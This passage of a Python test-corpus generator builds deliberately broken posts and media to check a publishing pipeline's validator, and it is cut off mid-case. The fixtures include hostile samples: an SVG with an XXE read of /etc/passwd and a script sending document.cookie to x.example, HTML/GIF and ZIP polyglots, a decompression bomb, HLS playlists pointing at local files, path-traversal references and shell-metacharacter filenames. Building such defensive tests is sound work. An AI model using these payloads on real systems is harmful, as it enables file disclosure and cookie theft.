"""A reproducible corpus of bad posts and bad media (docs/publishing-model.md §7).

Every case is one complete post folder, `posts/2026/11/<slug>/` with `index.md` and its
media, valid in every respect except one defect, so that `pipeline check` reports exactly one
error code for it (warnings may come along). A few cases are warnings only, and a few are
tricky inputs that must be *accepted* (`code == ""`). Everything is made here, from seeded
random numbers, Pillow and the imageio-ffmpeg binary: no downloads, no real personal data.

    python tests/corpus/make_corpus.py OUT [--readme tests/corpus/CASES_README.md]

Notes for whoever runs it:

* `media_symlink` writes a symlink to /etc/hostname and `path_collision_case` writes both
  `Foto.jpg` and `foto.jpg`: build on a POSIX, case-sensitive file system (Linux CI).
* Line numbers count the opening `---` as line 1. Each expected line is found by searching the
  generated text for a marker, so editing a template cannot silently shift them.
"""

from __future__ import annotations

import argparse
import functools
import hashlib
import io
import json
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import imageio_ffmpeg
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

MONTH = "posts/2026/11"


@dataclass(frozen=True)
class Case:
    name: str  # e.g. "img_empty_file"
    folder: str  # post folder relative to the dest root, e.g. "posts/2026/11/img-empty-file"
    code: str  # the expected problem code; "" means the post must pass (no error at all)
    field: str  # expected field, e.g. "media[0].file"; "" if none
    line: int | None  # expected 1-based line in index.md; None for file-level problems
    note: str  # one line: what the case is, citing its §7 number
    severity: str = "error"  # "warning" for cases whose code must not fail the post


@dataclass(frozen=True)
class Link:
    """A symlink to write instead of a file."""

    target: str


FileData = bytes | str | Link


@dataclass(frozen=True)
class _Spec:
    case: Case
    index: bytes
    files: Mapping[str, FileData]


# --------------------------------------------------------------------------------------------
# index.md templates

BODY = "Narasi kegiatan dalam beberapa kalimat.\n"
CAPTION = "Keterangan singkat untuk media sosial."
ALT = "Petani di sawah"
VIDEO_ALT = "Cuplikan panen padi"
SRT = "1\n00:00:00,000 --> 00:00:02,000\nPetani memanen padi di sawah.\n"

_BASE: dict[str, str] = {
    "title": "title: Contoh kasus uji",
    "date": "date: 2026-11-20",
    "authors": "authors: [humas]",
    "credit": 'credit: "Foto: Tim Humas"',
    "social": "social:",
    "platforms": "  platforms: [facebook]",
    "caption": f'  caption: "{CAPTION}"',
    "media": "media:",
    "items": f'  - {{file: foto.jpg, kind: photo, alt: "{ALT}"}}',
}


def _q(value: str) -> str:
    """`value` as a YAML flow scalar: bare when plainly safe, else double-quoted (JSON)."""
    plain = value[:1].isalnum() and all(c.isalnum() or c in "._-" for c in value)
    return value if plain else json.dumps(value, ensure_ascii=False)


def item(file: str, kind: str = "photo", alt: str | None = ALT, captions: str | None = None) -> str:
    """One `media:` list item, in the flow style of the template."""
    parts = [f"file: {_q(file)}", f"kind: {kind}"]
    if alt is not None:
        parts.append(f"alt: {json.dumps(alt, ensure_ascii=False)}")
    if captions is not None:
        parts.append(f"captions: {_q(captions)}")
    return "  - {" + ", ".join(parts) + "}"


VIDEO_ITEM = item("video.mp4", "video", VIDEO_ALT, captions="video.srt")


def front(**over: str | None) -> str:
    """The template front matter (with both `---` lines); each keyword replaces one template
    line (None drops it; the value may hold several lines); `extra` is appended at the end."""
    extra = over.pop("extra", None)
    unknown = set(over) - set(_BASE)
    if unknown:
        raise KeyError(f"not template lines: {sorted(unknown)}")
    lines = [over.get(key, line) for key, line in _BASE.items()]
    kept = [line for line in lines if line is not None]
    if extra:
        kept.append(extra)
    return "---\n" + "\n".join(kept) + "\n---\n"


def post(head: str | None = None, body: str = BODY) -> str:
    """index.md: front matter (the template unless given), a blank line, the body."""
    return (front() if head is None else head) + "\n" + body


def platforms(*names: str) -> str:
    return "  platforms: [" + ", ".join(names) + "]"


def caption(text: str) -> str:
    return "  caption: " + json.dumps(text, ensure_ascii=False)


def items(*lines: str) -> str:
    return "\n".join(lines)


def _line(text: bytes, needle: str | bytes) -> int:
    raw = needle.encode() if isinstance(needle, str) else needle
    pos = text.find(raw)
    if pos < 0:
        raise ValueError(f"marker {needle!r} not in index.md")
    if text.find(raw, pos + 1) >= 0:
        raise ValueError(f"marker {needle!r} is not unique in index.md")
    return text.count(b"\n", 0, pos) + 1


# --------------------------------------------------------------------------------------------
# images


def _jpeg(image: Image.Image, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, "JPEG", quality=75, **options)
    return out.getvalue()


def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


@functools.cache
def photo_image(seed: int = 0, size: tuple[int, int] = (800, 600)) -> Image.Image:
    """A field-coloured picture: smooth random blotches plus some fine noise."""
    rng = random.Random(seed)
    small = Image.frombytes("RGB", (40, 30), rng.randbytes(40 * 30 * 3))
    base = small.resize(size, Image.Resampling.BICUBIC)
    noise = Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3))
    return Image.blend(base, noise, 0.04)


@functools.cache
def photo(seed: int = 0) -> bytes:
    """A valid 800x600 RGB baseline JPEG (about 60 kB)."""
    return _jpeg(photo_image(seed))


@functools.cache
def drawing(size: tuple[int, int] = (800, 600)) -> Image.Image:
    """A flat-coloured RGB picture that stays small as PNG, GIF or TIFF."""
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.rectangle((w // 10, h // 2, w * 9 // 10, h * 9 // 10), fill=(60, 140, 50))
    draw.ellipse((w * 6 // 10, h // 10, w * 8 // 10, h * 4 // 10), fill=(240, 200, 40))
    return image


@functools.cache
def png_photo() -> bytes:
    return _save(drawing(), "PNG")


def _chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    value = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", value)


def _chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    out = []
    pos = 8
    while pos < len(png):
        (length,) = struct.unpack(">I", png[pos : pos + 4])
        out.append((png[pos + 4 : pos + 8], png[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return out


PNG_SIG = b"\x89PNG\r\n\x1a\n"


def _ihdr(width: int, height: int, color_type: int = 0) -> bytes:
    return struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose IHDR claims `width`x`height` but whose IDAT is a few hundred bytes."""
    idat = zlib.compress(b"\x00" * 4096, 9)
    return (
        PNG_SIG
        + _chunk(b"IHDR", _ihdr(width, height))
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def png_edit(edit: Callable[[bytes, bytes], bytes | None]) -> bytes:
    """The small valid PNG photo with each chunk rewritten by `edit(kind, data)` (the full
    chunk bytes, or None to keep it)."""
    out = [PNG_SIG]
    for kind, data in _chunks(png_small()):
        new = edit(kind, data)
        out.append(_chunk(kind, data) if new is None else new)
    return b"".join(out)


@functools.cache
def png_small() -> bytes:
    return _save(drawing((200, 150)), "PNG")


def png_ztxt_bomb() -> bytes:
    """A zTXt chunk before IDAT whose 50 MB of text compresses to about 50 kB."""
    bomb = zlib.compress(b"A" * 50_000_000, 9)
    chunks = _chunks(png_small())
    out = [PNG_SIG]
    for kind, data in chunks:
        out.append(_chunk(kind, data))
        if kind == b"IHDR":
            out.append(_chunk(b"zTXt", b"Comment\x00\x00" + bomb))
    return b"".join(out)


def jpeg_sof(data: bytes, width: int, height: int) -> bytes:
    """`data` with its SOF0 frame header patched to claim `width`x`height`."""
    pos = 2
    while data[pos] == 0xFF and data[pos + 1] != 0xDA:  # walk the segments up to SOS
        if data[pos + 1] == 0xC0:
            return data[: pos + 5] + struct.pack(">HH", height, width) + data[pos + 9 :]
        pos += 2 + struct.unpack(">H", data[pos + 2 : pos + 4])[0]
    raise ValueError("no SOF0 segment before SOS")


def jpeg_zip_tail() -> bytes:
    tail = io.BytesIO()
    with zipfile.ZipFile(tail, "w") as archive:
        info = zipfile.ZipInfo("catatan.html", date_time=(2026, 11, 20, 0, 0, 0))
        archive.writestr(info, "<script>alert(1)</script>\n")
    return photo() + tail.getvalue()


def gif_html_polyglot() -> bytes:
    """A GIF header whose 'width' bytes open a JS comment: valid GIF, valid HTML/JS."""
    return b"GIF89a/*\x00\x00\x00\x00\x00*/=1;<script>alert(document.domain)</script>\n<!-- ;"


def apng_3_frames() -> bytes:
    colours = ((200, 40, 40), (40, 200, 40), (40, 40, 200))
    frames = [Image.new("RGB", (200, 150), c) for c in colours]
    return _save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=200)


def mpo_2_frames() -> bytes:
    second = photo_image(7, (400, 300))
    return _save(
        photo_image(6, (400, 300)), "MPO", save_all=True, append_images=[second], quality=75
    )


def jpeg_malformed_exif() -> bytes:
    """EXIF whose IFD declares 500 entries but holds 3: pixels fine, metadata broken."""
    exif = (
        b"Exif\x00\x00II*\x00"
        + struct.pack("<I", 8)
        + struct.pack("<H", 500)
        + b"\x12\x01\x03\x00\x01\x00\x00\x00" * 3
    )
    segment = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    data = photo()
    return data[:2] + segment + data[2:]


def jpeg_gps() -> bytes:
    exif = Image.Exif()
    # Monas, Jakarta: a public landmark, not anybody's home.
    exif[0x8825] = {1: "S", 2: (6.0, 10.0, 31.0), 3: "E", 4: (106.0, 49.0, 37.0)}
    return _jpeg(photo_image(), exif=exif)


def jpeg_oriented() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    return _jpeg(photo_image().transpose(Image.Transpose.ROTATE_90), exif=exif)


def png_text_author() -> bytes:
    info = PngInfo()
    info.add_text("Author", "Budi Contoh, Jl. Melati No. 5 (fiktif)")
    return _save(drawing(), "PNG", pnginfo=info)


def png_16bit() -> bytes:
    ramp = Image.linear_gradient("L").resize((800, 600)).convert("I")
    return _save(ramp.point(lambda v: v * 257).convert("I;16"), "PNG")


def lfs_pointer() -> bytes:
    oid = hashlib.sha256(photo()).hexdigest()
    return f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(photo())}\n".encode()


EPS = (
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n%%EndComments\n"
    b"newpath 10 10 moveto 90 90 lineto stroke\nshowpage\n%%EOF\n"
)

SVG_PLAIN = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" onload="alert(1)">
  <rect width="800" height="600" fill="#3c8c32"/>
  <text x="40" y="80" font-size="48">Produksi padi 2026</text>
</svg>
"""

SVG_XXE = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">
  <script>fetch("https://x.example/?d=" + document.cookie)</script>
  <text x="10" y="40">&e;</text>
</svg>
"""

SVG_EXTERNAL = """<svg xmlns="http://www.w3.org/2000/svg"
     xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600">
  <image href="http://127.0.0.1:8765/x.png" width="800" height="600"/>
  <use xlink:href="file:///etc/hosts#x"/>
</svg>
"""

# --------------------------------------------------------------------------------------------
# video

HLS = """#EXTM3U
#EXT-X-MEDIA-SEQUENCE:0
#EXT-X-TARGETDURATION:10
#EXTINF:10.0,
file:///etc/passwd
#EXT-X-ENDLIST
"""

FFCONCAT = "ffconcat version 1.0\nfile 'file:///etc/passwd'\nduration 10\n"

_BITEXACT = [
    "-map_metadata",
    "-1",
    "-fflags",
    "+bitexact",
    "-flags:v",
    "+bitexact",
    "-flags:a",
    "+bitexact",
]
_H264 = [
    "-c:v",
    "libx264",
    "-preset",
    "veryfast",
    "-profile:v",
    "high",
    "-pix_fmt",
    "yuv420p",
    "-b:v",
    "160k",
    "-g",
    "60",
    "-threads",
    "1",
]
_AAC = ["-c:a", "aac", "-b:a", "32k", "-ac", "1"]


def _src(seconds: float, rate: int = 30, size: str = "640x360") -> list[str]:
    return ["-f", "lavfi", "-i", f"testsrc2=size={size}:rate={rate}:duration={seconds}"]


def _sine(seconds: float, frequency: int = 440) -> list[str]:
    return ["-f", "lavfi", "-i", f"sine=frequency={frequency}:sample_rate=44100:duration={seconds}"]


# name -> (ffmpeg arguments between the binary and the output file, output suffix). A "{base}"
# argument is replaced by the path of the base video, which is made first.
_VIDEO_JOBS: dict[str, tuple[list[str], str]] = {
    # The base: 640x360, 4 s, H.264 High yuv420p + AAC, moov at the END (no faststart), so
    # that its first 30 kB hold no moov. 4 s: Facebook/Instagram/TikTok want at least 3 s.
    "base": ([*_src(4), *_sine(4), *_H264, *_AAC, "-shortest"], ".mp4"),
    "short": ([*_src(0.2), *_sine(0.2), *_H264, *_AAC, "-shortest"], ".mp4"),
    "fps120": ([*_src(4, rate=120), *_sine(4), *_H264, "-b:v", "200k", *_AAC, "-shortest"], ".mp4"),
    "mpeg4": (
        [
            *_src(4),
            *_sine(4),
            "-c:v",
            "mpeg4",
            "-b:v",
            "160k",
            "-pix_fmt",
            "yuv420p",
            *_AAC,
            "-shortest",
        ],
        ".mp4",
    ),
    "two_video": (
        [
            *_src(4),
            *_src(4, size="64x64"),
            *_sine(4),
            "-map",
            "0:v",
            "-map",
            "1:v",
            "-map",
            "2:a",
            *_H264,
            *_AAC,
            "-shortest",
        ],
        ".mp4",
    ),
    "two_audio": (
        [
            *_src(4),
            *_sine(4),
            *_sine(4, 880),
            "-map",
            "0:v",
            "-map",
            "1:a",
            "-map",
            "2:a",
            *_H264,
            *_AAC,
            "-shortest",
        ],
        ".mp4",
    ),
    "audio_only": ([*_sine(4), *_AAC], ".mp4"),
    "avi": ([*_src(4), "-c:v", "mpeg4", "-b:v", "160k", "-an"], ".avi"),
    # Derived from the base by stream copy:
    "mpegts": (["-i", "{base}", "-map", "0", "-c", "copy", "-f", "mpegts"], ".ts"),
    "matroska": (["-i", "{base}", "-map", "0", "-c", "copy", "-f", "matroska"], ".mkv"),
    "subtitle": (
        ["-i", "{base}", "-i", "{srt}", "-map", "0", "-map", "1", "-c", "copy", "-c:s", "mov_text"],
        ".mp4",
    ),
    "rotated": (["-display_rotation", "90", "-i", "{base}", "-map", "0", "-c", "copy"], ".mp4"),
}


def _ffmpeg(args: list[str], out: Path) -> bytes:
    command = [
        imageio_ffmpeg.get_ffmpeg_exe(),
        "-nostdin",
        "-v",
        "error",
        "-y",
        *args,
        *_BITEXACT,
        str(out),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return out.read_bytes()


@functools.cache
def videos() -> dict[str, bytes]:
    """Every video variant, made with the imageio-ffmpeg binary (in parallel, ~2 s)."""
    with tempfile.TemporaryDirectory(prefix="corpus-video-") as tmp:
        work = Path(tmp)
        srt = work / "captions.srt"
        srt.write_text(SRT, encoding="utf-8")
        base = work / "base.mp4"

        def run(name: str) -> tuple[str, bytes]:
            args, suffix = _VIDEO_JOBS[name]
            args = [a.replace("{base}", str(base)).replace("{srt}", str(srt)) for a in args]
            return name, _ffmpeg(args, work / f"{name}{suffix}")

        made = dict([run("base")])
        with ThreadPoolExecutor(max_workers=6) as pool:
            made.update(pool.map(run, [n for n in _VIDEO_JOBS if n != "base"]))
    return made


def random_ftyp() -> bytes:
    rng = random.Random(45)
    head = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00" + b"isomiso2"
    return head + rng.randbytes(60_000)


def avi_hls() -> bytes:
    """A RIFF/AVI shell carrying an HLS playlist in a GAB2 chunk (simplified neex style)."""
    playlist = HLS.encode()
    gab2 = b"GAB2\x00\x02\x00" + struct.pack("<I", len(playlist)) + playlist
    avih = b"avih" + struct.pack("<I", 56) + bytes(56)
    hdrl = b"LIST" + struct.pack("<I", 4 + len(avih)) + b"hdrl" + avih
    junk = b"JUNK" + struct.pack("<I", len(gab2)) + gab2
    movi = b"LIST" + struct.pack("<I", 4) + b"movi"
    body = b"AVI " + hdrl + junk + movi
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --------------------------------------------------------------------------------------------
# the cases


class _Corpus:
    def __init__(self) -> None:
        self.specs: list[_Spec] = []

    def add(
        self,
        name: str,
        code: str,
        field: str,
        at: str | bytes | None,
        note: str,
        index: str | bytes,
        files: Mapping[str, FileData] | None = None,
        severity: str = "error",
    ) -> None:
        raw = index.encode("utf-8") if isinstance(index, str) else index
        line = None if at is None else _line(raw, at)
        folder = f"{MONTH}/{name.replace('_', '-')}"
        case = Case(
            name=name,
            folder=folder,
            code=code,
            field=field,
            line=line,
            note=note,
            severity=severity,
        )
        self.specs.append(_Spec(case, raw, {"foto.jpg": photo()} if files is None else dict(files)))

    def media(
        self,
        name: str,
        code: str,
        note: str,
        file: str,
        data: FileData,
        *,
        kind: str = "photo",
        severity: str = "error",
        **over: str | None,
    ) -> None:
        """A case about the one media file `file` (field media[0].file, line of its item)."""
        captions = "video.srt" if kind == "video" else None
        alt = (
            VIDEO_ALT
            if kind == "video"
            else ("Infografis produksi padi" if kind == "infographic" else ALT)
        )
        line = item(file, kind, alt, captions)
        files: dict[str, FileData] = {file: data}
        if captions:
            files[captions] = SRT
        self.add(
            name,
            code,
            "media[0].file" if code else "",
            line if code else None,
            note,
            post(front(items=line, **over)),
            files,
            severity,
        )

    def video(
        self,
        name: str,
        code: str,
        note: str,
        data: FileData,
        *,
        file: str = "video.mp4",
        severity: str = "error",
        **over: str | None,
    ) -> None:
        self.media(name, code, note, file, data, kind="video", severity=severity, **over)


def _image_cases(c: _Corpus) -> None:
    c.add("valid_baseline", "", "", None, "Baseline: the template post itself must pass.", post())
    m = c.media
    m("img_empty_file", "MEDIA_EMPTY", "§7 #1: foto.jpg is 0 bytes.", "foto.jpg", b"")
    m(
        "img_text_named_jpg",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #2: a text file named foto.jpg.",
        "foto.jpg",
        b"hello\n",
    )
    m(
        "img_png_header_10000",
        "MEDIA_TOO_LARGE",
        "§7 #3: PNG IHDR claims 10000x10000 (100 MP), tiny IDAT.",
        "foto.png",
        png_header_only(10_000, 10_000),
    )
    m(
        "img_png_header_20000",
        "MEDIA_TOO_LARGE",
        "§7 #4: PNG IHDR claims 20000x20000 (400 MP, DecompressionBombError), tiny IDAT.",
        "foto.png",
        png_header_only(20_000, 20_000),
    )
    m(
        "img_jpeg_sof_65000",
        "MEDIA_TOO_LARGE",
        "§7 #5: JPEG whose SOF0 is patched to 65000x65000.",
        "foto.jpg",
        jpeg_sof(photo(), 65_000, 65_000),
    )
    m(
        "img_png_100000x1",
        "MEDIA_DIMENSIONS",
        "§7 #6: a real 100000x1 PNG (under the pixel cap, extreme side and ratio).",
        "foto.png",
        _save(Image.new("RGB", (100_000, 1), (60, 140, 50)), "PNG"),
    )
    m(
        "img_png_20000x10",
        "MEDIA_DIMENSIONS",
        "§7 #6: a real 20000x10 PNG (ratio 2000:1).",
        "foto.png",
        _save(Image.new("RGB", (20_000, 10), (60, 140, 50)), "PNG"),
    )
    m(
        "img_png_ztxt_bomb",
        "MEDIA_CORRUPT",
        "§7 #7: zTXt chunk inflating to 50 MB (Pillow raises ValueError, not Unidentified).",
        "foto.png",
        png_ztxt_bomb(),
    )
    m(
        "img_png_bad_ihdr_crc",
        "MEDIA_CORRUPT",
        "§7 #8: PNG with its IHDR CRC zeroed.",
        "foto.png",
        png_edit(lambda k, d: _chunk(k, d, 0) if k == b"IHDR" else None),
    )
    m(
        "img_png_bad_idat_crc",
        "MEDIA_CORRUPT",
        "§7 #9: PNG with one IDAT CRC byte flipped (load() passes, verify() fails).",
        "foto.png",
        png_edit(lambda k, d: _chunk(k, d, zlib.crc32(k + d) ^ 0xFF) if k == b"IDAT" else None),
    )
    m(
        "img_png_missing_iend",
        "MEDIA_CORRUPT",
        "§7 #10: PNG without its IEND chunk.",
        "foto.png",
        png_small()[:-12],
    )
    m(
        "img_png_idat_not_zlib",
        "MEDIA_CORRUPT",
        "§7 #11: PNG whose IDAT is b'notzlib'.",
        "foto.png",
        png_edit(lambda k, d: _chunk(k, b"notzlib") if k == b"IDAT" else None),
    )
    m(
        "img_png_zero_size",
        "MEDIA_CORRUPT",
        "§7 #12: PNG whose IHDR says 0x0.",
        "foto.png",
        png_edit(lambda k, d: _chunk(k, _ihdr(0, 0, 2)) if k == b"IHDR" else None),
    )
    m(
        "img_jpeg_truncated_half",
        "MEDIA_CORRUPT",
        "§7 #13/#15: JPEG cut at half its length (verify() passes, load() fails).",
        "foto.jpg",
        photo()[: len(photo()) // 2],
    )
    m(
        "img_jpeg_missing_eoi",
        "MEDIA_CORRUPT",
        "§7 #14: JPEG missing its EOI (last 2 bytes).",
        "foto.jpg",
        photo()[:-2],
    )
    m(
        "img_jpeg_zip_tail",
        "MEDIA_TRAILING_DATA",
        "§7 #16: valid JPEG with a ZIP (PK\\x03\\x04) appended: a polyglot.",
        "foto.jpg",
        jpeg_zip_tail(),
    )
    m(
        "img_png_html_tail",
        "MEDIA_TRAILING_DATA",
        "§7 #16: valid PNG with an HTML <script> appended after IEND.",
        "foto.png",
        png_photo() + b"<html><script>alert(1)</script></html>\n",
    )
    m(
        "img_gif_html_polyglot",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #17: GIF89a/*<script>...*/ GIF/HTML polyglot named foto.jpg.",
        "foto.jpg",
        gif_html_polyglot(),
    )
    m(
        "img_gif_named_jpg",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #18: a real GIF named foto.jpg.",
        "foto.jpg",
        _save(drawing((200, 150)), "GIF"),
    )
    m(
        "img_webp_named_png",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #19: a real WebP named foto.png.",
        "foto.png",
        _save(drawing((200, 150)), "WEBP", quality=60),
    )
    m(
        "img_tiff_named_jpg",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #20: a real TIFF named foto.jpg.",
        "foto.jpg",
        _save(drawing((200, 150)), "TIFF", compression="tiff_deflate"),
    )
    m(
        "img_eps_named_jpg",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #21: EPS (%!PS-Adobe-3.0 EPSF-3.0) named foto.jpg; Ghostscript must never run.",
        "foto.jpg",
        EPS,
    )
    m(
        "img_apng_3_frames",
        "MEDIA_MULTIFRAME",
        "§7 #22: APNG with 3 frames (passes Pillow's formats=['PNG'] allowlist).",
        "foto.png",
        apng_3_frames(),
    )
    m(
        "img_mpo_2_frames",
        "MEDIA_MULTIFRAME",
        "§7 #23: MPO (2-frame JPEG, Pillow format 'MPO') named foto.jpg.",
        "foto.jpg",
        mpo_2_frames(),
    )
    m(
        "img_cmyk_jpeg_ok",
        "",
        "§7 #24: CMYK JPEG: accepted (converted to sRGB on output).",
        "foto.jpg",
        _jpeg(photo_image().convert("CMYK")),
    )
    m(
        "img_png_16bit_ok",
        "",
        "§7 #25: 16-bit grayscale PNG (I;16): accepted.",
        "foto.png",
        png_16bit(),
    )
    m(
        "img_exif_orientation_6_ok",
        "",
        "§7 #26: 600x800 JPEG with EXIF Orientation=6: accepted (shown as 800x600).",
        "foto.jpg",
        jpeg_oriented(),
    )
    m(
        "img_exif_gps",
        "MEDIA_HAS_GPS",
        "§7 #27: JPEG whose EXIF has a GPS IFD (warning).",
        "foto.jpg",
        jpeg_gps(),
        severity="warning",
    )
    m(
        "img_jpeg_comment",
        "MEDIA_HAS_COMMENT",
        "§7 #28: JPEG COM segment 'alamat rumah: ...' (warning).",
        "foto.jpg",
        _jpeg(photo_image(), comment="alamat rumah: Jl. Contoh Raya No. 12, RT 03/RW 04 (fiktif)"),
        severity="warning",
    )
    m(
        "img_png_text_author",
        "MEDIA_HAS_TEXT_METADATA",
        "§7 #29: PNG with a tEXt 'Author' chunk (warning).",
        "foto.png",
        png_text_author(),
        severity="warning",
    )
    m(
        "img_malformed_exif_ok",
        "",
        "§7 #30: JPEG whose EXIF IFD claims 500 entries: accepted, getexif() must not fail it.",
        "foto.jpg",
        jpeg_malformed_exif(),
    )
    m(
        "img_lfs_pointer",
        "MEDIA_LFS_POINTER",
        "§7 #31: a Git LFS pointer file (version https://git-lfs...) named foto.jpg.",
        "foto.jpg",
        lfs_pointer(),
    )
    m(
        "img_mp4_as_photo",
        "MEDIA_KIND_MISMATCH",
        "§3.4 (magic vs declared kind): a valid MP4 listed as kind: photo.",
        "video.mp4",
        videos()["base"],
    )
    c.media(
        "img_jpeg_as_video",
        "MEDIA_KIND_MISMATCH",
        "§3.4 (magic vs declared kind): a valid JPEG listed as kind: video.",
        "foto.jpg",
        photo(),
        kind="video",
    )


def _svg_cases(c: _Corpus) -> None:
    svg = functools.partial(c.media, kind="infographic")
    svg(
        "svg_infographic",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #33/§3.2 option A: infografis.svg (with onload) listed as infographic.",
        "infografis.svg",
        SVG_PLAIN,
    )
    svg(
        "svg_xxe_script",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #34/#36: SVG with an XXE entity on /etc/passwd and a <script>; never parsed.",
        "infografis.svg",
        SVG_XXE,
    )
    svg(
        "svg_named_png",
        "MEDIA_FORMAT_NOT_ALLOWED",
        "§7 #38/#39: SVG with external <image>/<use> hrefs, named infografis.png.",
        "infografis.png",
        SVG_EXTERNAL,
    )


def _video_cases(c: _Corpus) -> None:
    v = videos()
    website_only = platforms()
    c.video(
        "video_baseline_ok",
        "",
        "§7 #41-56 baseline: the valid 4 s H.264/AAC video post.",
        v["base"],
    )
    c.video(
        "video_hls_named_mp4",
        "VIDEO_FORMAT_NOT_ALLOWED",
        "§7 #41: HLS playlist with a file:///etc/passwd segment, named video.mp4.",
        HLS,
    )
    c.video(
        "video_hls_m3u8",
        "VIDEO_FORMAT_NOT_ALLOWED",
        "§7 #42: the same HLS playlist named video.m3u8.",
        HLS,
        file="video.m3u8",
    )
    c.video(
        "video_ffconcat_named_mp4",
        "VIDEO_FORMAT_NOT_ALLOWED",
        "§7 #43: ffconcat list reading file:///etc/passwd, named video.mp4.",
        FFCONCAT,
    )
    c.video(
        "video_avi_hls",
        "VIDEO_FORMAT_NOT_ALLOWED",
        "§7 #44: RIFF/AVI shell carrying an HLS playlist (neex style), named video.mp4.",
        avi_hls(),
    )
    c.video(
        "video_avi",
        "VIDEO_FORMAT_NOT_ALLOWED",
        "§7 #44: a real AVI (MPEG-4 Part 2) named video.avi.",
        v["avi"],
        file="video.avi",
    )
    c.video(
        "video_random_ftyp",
        "VIDEO_CORRUPT",
        "§7 #45: an ftyp box followed by 60 kB of random bytes, named video.mp4.",
        random_ftyp(),
    )
    c.video(
        "video_mpegts_named_mp4",
        "VIDEO_FORMAT_NOT_ALLOWED",
        "§7 #46: MPEG-TS (the base, stream-copied) named video.mp4.",
        v["mpegts"],
    )
    c.video(
        "video_matroska_named_mp4",
        "VIDEO_FORMAT_NOT_ALLOWED",
        "§3.3 container allowlist: Matroska/WebM (EBML) named video.mp4.",
        v["matroska"],
    )
    c.video(
        "video_truncated_30k",
        "VIDEO_CORRUPT",
        "§7 #47: first 30 kB of the base MP4 (moov is at the end, so it is lost).",
        v["base"][:30_000],
    )
    c.video(
        "video_two_video_streams",
        "VIDEO_STREAMS",
        "§7 #49: two video streams (640x360 and 64x64).",
        v["two_video"],
    )
    c.video(
        "video_subtitle_stream",
        "VIDEO_STREAMS",
        "§7 #50: a mov_text subtitle stream besides video and audio.",
        v["subtitle"],
    )
    c.video(
        "video_two_audio_streams",
        "VIDEO_STREAMS",
        "§7 #50/§3.3 (at most 1 audio stream): two AAC streams.",
        v["two_audio"],
    )
    c.video(
        "video_audio_only", "VIDEO_NO_VIDEO", "§7 #51: an audio-only MP4 (AAC).", v["audio_only"]
    )
    c.video(
        "video_0_2s",
        "VIDEO_LIMITS",
        "§7 #52: a 0.2 s video (website only, so no platform minimum applies).",
        v["short"],
        platforms=website_only,
    )
    c.video("video_120fps", "VIDEO_LIMITS", "§7 #53: a 4 s video at 120 fps.", v["fps120"])
    c.video(
        "video_mpeg4_part2",
        "VIDEO_CODEC",
        "§3.3 codec allowlist: MPEG-4 Part 2 (mpeg4) video in MP4.",
        v["mpeg4"],
    )
    c.video(
        "video_rotation_90_ok",
        "",
        "§7 #55: base video with 90° display rotation: accepted.",
        v["rotated"],
    )
    line = item("video.mp4", "video", VIDEO_ALT)
    c.add(
        "video_no_captions",
        "CAPTIONS_MISSING",
        "media[0].captions",
        line,
        "§3.3/completeness: a video item without captions: (warning).",
        post(front(items=line)),
        {"video.mp4": v["base"]},
        severity="warning",
    )


def _path_cases(c: _Corpus) -> None:
    refs = (
        ("ref_dotdot", "../../etc/passwd"),
        ("ref_absolute", "/etc/passwd"),
        ("ref_url", "https://x.example/y.jpg"),
        ("ref_windows_drive", "C:\\x.jpg"),
        ("ref_data_uri", "data:image/png;base64,AAAA"),
    )
    for name, ref in refs:
        line = item(ref)
        c.add(
            name,
            "MEDIA_REF_INVALID",
            "media[0].file",
            line,
            f"§7 #58: media file reference {ref!r}.",
            post(front(items=line)),
            {},
        )
    line = item("foto.jpg")
    c.add(
        "media_not_found",
        "MEDIA_NOT_FOUND",
        "media[0].file",
        line,
        "§3.4: foto.jpg is listed but absent.",
        post(),
        {},
    )
    c.add(
        "media_symlink",
        "MEDIA_SYMLINK",
        "media[0].file",
        line,
        "§7 #57: foto.jpg is a symlink to /etc/hostname.",
        post(),
        {"foto.jpg": Link("/etc/hostname")},
    )
    c.media(
        "path_dash_i",
        "PATH_INVALID",
        "§7 #56: a valid JPEG named '-i.jpg' (an option).",
        "-i.jpg",
        photo(),
    )
    c.media(
        "path_shell_chars",
        "PATH_INVALID",
        "§7 #56: a valid JPEG named 'foto;id.jpg' (shell metacharacter).",
